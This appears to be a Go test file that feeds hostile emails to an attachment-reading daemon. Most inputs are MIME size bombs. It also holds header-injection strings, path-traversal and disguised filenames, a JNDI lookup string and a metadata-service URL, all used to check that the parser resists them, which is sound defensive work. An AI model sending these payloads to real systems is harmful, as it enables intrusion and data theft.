package clerk

import (
	"encoding/base64"
	"fmt"
	"maps"
	"os"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode"

	"tongbao/internal/attachment"
)

// attack is a hostile letter or file and what becomes of it: a finding's code,
// "read" where what is sound in it is read and nothing comes of the rest, or
// "nothing" where it is a letter that says nothing.
type attack struct {
	raw  []byte
	want string
}

// attacks are all kinds, by what they try. They are made here: nothing hostile
// lies in testdata.
func attacks(t *testing.T) map[string]attack {
	out := letterAttacks()
	for name, a := range archiveAttacks(t) {
		out["archive: "+name] = attack{post(a.file, table(1)), a.want}
	}
	for name, a := range bookAttacks(t) {
		out["workbook: "+name] = attack{post(a.file, table(1)), a.want}
	}
	return out
}

// hostileFile is a file that a letter brings beside a sound table.
type hostileFile struct{ file, want string }

// leastKinds is how many kinds of attacks there are at least.
const leastKinds = 60

// limitsForAttacks are a configuration's, small enough for the attacks to be
// made in a moment.
var limitsForAttacks = Options{Attachment: attachment.Limits{Unpacked: 16 << 20}}

// TestAttacks opens each hostile letter as the daemon would. Whatever it is,
// the letter ends in time and has its finding; what is sound in it is read; no
// name of a file leads anywhere; the child's memory stays bounded; and the
// next letter is read.
func TestAttacks(t *testing.T) {
	if testing.Short() {
		t.Skip("the race detector takes several times the memory that the child may have; the plain run tries them all")
	}
	o := limitsForAttacks
	o.Sheet.Unpacked = 16 << 20
	o.Wall, o.CPU = time.Minute, time.Minute // the bounds on time are tried by TestFaults; a busy machine must not decide here
	c := newClerk(t, o)
	kinds := attacks(t)
	var longest time.Duration
	var slowest string
	deaths, most := 0, 0
	for _, name := range slices.Sorted(maps.Keys(kinds)) {
		a := kinds[name]
		before := c.pid()
		began := time.Now()
		opened, err := c.Open(t.Context(), "a.eml", a.raw)
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if d := time.Since(began); d > longest {
			longest, slowest = d, name
		}
		if before != 0 && c.pid() != before {
			deaths++
		}
		most = max(most, anonymous(t, c.pid()))
		checkHarmless(t, name, opened)
		codes := map[string]bool{}
		for _, f := range opened.Findings {
			codes[f.Code] = true
		}
		if a.want == "nothing" && len(opened.Documents)+len(codes) == 0 {
			continue
		}
		if a.want == "read" && (len(opened.Documents) == 0 || len(codes) > 0) || a.want != "read" && !codes[a.want] {
			t.Errorf("%s: want %s, got %.300s", name, a.want, told(opened))
		}
		if files := !strings.HasPrefix(name, "letter: "); files && !slices.ContainsFunc(opened.Documents, func(d Document) bool { return d.Path[len(d.Path)-1] == "2.csv" }) {
			t.Errorf("%s: the table beside it is not read: %.300s", name, told(opened))
		}
		if next, err := c.Open(t.Context(), "b.eml", post(table(3))); err != nil || told(next) != "1.csv" {
			t.Fatalf("%s: the next letter: %s, %v", name, told(next), err)
		}
	}
	if len(kinds) < leastKinds {
		t.Errorf("%d kinds of attacks, want %d", len(kinds), leastKinds)
	}
	if most > 512<<10 {
		t.Errorf("a child took %d KiB", most)
	}
	t.Logf("%d kinds; %d children died of them; the longest took %v (%s); the most memory was %d KiB", len(kinds), deaths, longest, slowest, most)
}

// checkHarmless holds that nothing which goes on from the clerk can do harm.
func checkHarmless(t *testing.T, name string, o Opened) {
	t.Helper()
	paths := [][]string{}
	for _, d := range o.Documents {
		paths = append(paths, d.Path)
	}
	for _, f := range o.Findings {
		paths = append(paths, f.Path)
		if !strings.HasSuffix(f.Message, "。") || f.Code == "" || f.Severity == "" {
			t.Errorf("%s: a finding says too little: %+v", name, f)
		}
	}
	if len(o.Findings) > 500 {
		t.Errorf("%s: %d findings", name, len(o.Findings))
	}
	for _, path := range paths {
		for _, element := range path {
			if strings.ContainsAny(element, "/\\") || strings.ContainsFunc(element, unicode.IsControl) || element == ".." || len(element) > 1100 ||
				strings.ContainsFunc(element, func(r rune) bool { return unicode.Is(unicode.Cf, r) }) {
				t.Errorf("%s: the path %.200q", name, path)
			}
		}
	}
	if h := o.Header; h != nil && strings.ContainsAny(h.Subject+h.From+h.FromName+h.MessageID+h.ReplyTo+strings.Join(h.To, ""), "\r\n\x00") {
		t.Errorf("%s: a line ends in the header: %.200q", name, h.Subject)
	}
}

var anonMemory = regexp.MustCompile(`RssAnon:\s+(\d+) kB`)

// anonymous is a process's memory in KiB, 0 where that cannot be told.
func anonymous(t *testing.T, pid int) int {
	t.Helper()
	status, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	if m := anonMemory.FindSubmatch(status); err == nil && m != nil {
		n, _ := strconv.Atoi(string(m[1])) //nolint:errcheck // digits
		return n
	}
	return 0
}

const (
	head = "From: <xs@county.example.com>\r\nSubject: 3\r\n"
	text = head + "Content-Type: text/plain; charset=utf-8\r\n\r\n报来3月份进度表。\r\n"
	web  = head + "Content-Type: text/html; charset=utf-8\r\n\r\n"
)

func times(s string, n int) string { return strings.Repeat(s, n) }

// mixed is a multipart letter of parts, each with its header.
func mixed(parts ...string) string {
	return head + "Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n" + strings.Join(parts, "\r\n--m\r\n") + "\r\n--m--\r\n"
}

func named(parameter, data string) string {
	return "Content-Type: text/csv\r\nContent-Disposition: attachment; " + parameter + "\r\n\r\n" + data
}

func letterAttacks() map[string]attack {
	deep, inner := "", text
	for i := range 10_000 {
		deep += fmt.Sprintf("Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n", i, i)
	}
	for i := range 30 {
		inner = fmt.Sprintf(head+"Content-Type: multipart/mixed; boundary=m%d\r\n\r\n--m%d\r\nContent-Type: message/rfc822\r\n\r\n%s\r\n--m%d--\r\n", i, i, inner, i)
	}
	coded := text
	for range 14 {
		coded = head + "Content-Type: message/rfc822; name=i.eml\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.StdEncoding.EncodeToString([]byte(coded))
	}
	inject := "=?utf-8?B?" + base64.StdEncoding.EncodeToString([]byte("3月\r\nBcc: all@county.example.com\r\n\r\n<b>")) + "?="
	row := "<tr><td>序号</td><td>项目名称</td></tr><tr><td>1</td><td>污水厂</td></tr>"
	out := map[string]attack{}
	for name, a := range map[string]struct{ raw, want string }{
		"a million parts":          {mixed(times("Content-Type: a/b\r\n\r\n\r\n--m\r\n", 1_000_000)), "too-many-parts"},
		"parts in parts":           {head + deep, "too-many-parts"},
		"letters in letters":       {inner, "too-deep"},
		"letters in base64":        {coded, "too-deep"},
		"a subject of 8 MB":        {"Subject: " + times("3月", 2<<20) + "\r\n" + text, "read"},
		"a million fields":         {times("X-A: b\r\n", 1_000_000) + text, "read"},
		"a million folds":          {"X-A: b" + times("\r\n c", 1_000_000) + "\r\n" + text, "read"},
		"encoded words":            {"Subject: " + times("=?gbk?B?zeLDsg==?= ", 200_000) + "\r\n" + text, "read"},
		"words that never end":     {"Subject: " + times("=?gbk?B?", 500_000) + "\r\n" + text, "read"},
		"brackets in From":         {"From: " + times("(", 200_000) + times("<", 200_000) + "\r\nSubject: 3\r\n\r\n进度表\r\n", "read"},
		"a list of senders":        {"From: " + times("a@county.example.com, b@county.example.com, ", 50_000) + "\r\nSubject: 3\r\n\r\n进度表\r\n", "several-senders"},
		"ten thousand recipients":  {"To: " + times("<a@county.example.com>, ", 100_000) + "\r\n" + text, "read"},
		"quotes in a type":         {"Content-Type: text/plain; name=" + times(`"x;`, 200_000) + "\r\nSubject: 3\r\nFrom: <a@county.example.com>\r\n\r\n1,2\r\n", "nothing"},
		"pieces of a name":         {mixed(named(times("filename*1*=x;\r\n ", 5_000)+"filename*0*=utf-8''a.csv", table(1))), "read"},
		"a dash for a boundary":    {head + "Content-Type: multipart/mixed; boundary=\"-\"\r\n\r\n" + times("-", 4<<20), "no-boundary"},
		"lines of boundaries":      {head + "Content-Type: multipart/mixed; boundary=b\r\n\r\n" + times("--b\r\n", 1_000_000), "too-many-parts"},
		"boundaries without end":   {head + "Content-Type: multipart/mixed; boundary=b\r\n\r\n" + times("--bx\r\n", 1_000_000), "no-boundary"},
		"no bytes at all":          {"From: a\r\n", "nothing"},
		"bytes that are nothing":   {"Subject: 3\r\nFrom: <a@county.example.com>\r\nContent-Type: text/plain\r\n\r\n" + times("\x00\xff", 1<<20), "read"},
		"a line of 8 MB":           {text + times("x", 8<<20), "read"},
		"header injection":         {"Subject: " + inject + "\r\nFrom: =?utf-8?B?DQpCY2M6IGE=?= <xs@county.example.com>\r\n\r\n进度表\r\n", "read"},
		"injection by a name":      {mixed(named(`filename="`+inject+`.csv"`, table(1))), "read"},
		"a name that leads up":     {mixed(named(`filename="../../../../etc/cron.d/a.csv"`, table(1))), "read"},
		"a name of a drive":        {mixed(named(`filename="C:\Windows\System32\..\a.csv"`, table(1))), "read"},
		"a name of dots":           {mixed(named(`filename=".."`, table(1))), "read"},
		"a name turned round":      {mixed(named("filename*=utf-8''3%E2%80%AExslx.exe.csv", table(1))), "read"},
		"a name of 1 MB":           {mixed(named(`filename="`+times("表", 300_000)+`.csv"`, table(1))), "read"},
		"a script in a name":       {mixed(named(`filename="<script>alert(1)<.csv"`, table(1))), "read"},
		"a template in a subject":  {"Subject: {{.Password}} ${jndi:ldap://a.example.com/} %s%n\r\n" + text, "read"},
		"base64 of nothing":        {head + "Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n" + times("====\r\n", 1_000_000), "nothing"},
		"quoted nothing":           {head + "Content-Type: text/plain\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n" + times("=\r\n", 1_000_000) + "a", "read"},
		"uuencode without end":     {head + "\r\nbegin 644 a.csv\r\n" + times("M"+times("0", 60)+"\r\n", 50_000), "truncated"},
		"uuencode again and again": {head + "\r\n" + times("begin 644 a.csv\r\nM"+times("0", 60)+"\r\n", 20_000), "truncated"},
		"a letter in pieces":       {head + "Content-Type: message/partial; number=1; total=1000000\r\n\r\nx", "partial"},
		"a file elsewhere":         {mixed("Content-Type: message/external-body; access-type=URL; url=\"http://169.254.169.254/latest\"; name=a.csv\r\n\r\n\r\n"), "huge-attachment-link"},
		"a sealed letter":          {head + "Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n\r\nMIAGCSqGSIb3DQEHA6CA\r\n", "sealed"},
		"a million links":          {web + times("<a href=https://mail.qq.com/cgi-bin/ftnExs_download?k=1>超大附件</a>", 100_000), "huge-attachment-link"},
		"tags in tags":             {web + times("<div>", 300_000) + "<table>" + row + "</table>", "damaged"},
		"tags without end":         {web + times("<a href=\"", 300_000), "nothing"},
		"tables in tables":         {web + times("<table><tr><td>a", 100_000), "damaged"},
		"a cell over everything":   {web + "<table><tr><td colspan=999999999 rowspan=999999999>a</td></tr>" + row + "</table>", "read"},
		"wide cells":               {web + "<table>" + times("<tr><td colspan=1000 rowspan=60000>a</td><td>b</td></tr>", 20_000) + "</table>", "too-large"},
		"entities":                 {web + times("&#x110000;&amp;&nbsp;", 300_000), "read"},
		"a label that lies":        {head + "Content-Type: text/plain; charset=utf-16\r\n\r\n" + times("进度", 300_001) + "\r\n", "read"},
		"another label":            {head + "Content-Type: text/plain; charset=iso-2022-jp\r\n\r\n" + times("\x1b$B", 1_000_000) + "\r\n", "read"},
	} {
		out["letter: "+name] = attack{[]byte(a.raw), a.want}
	}
	return out
}
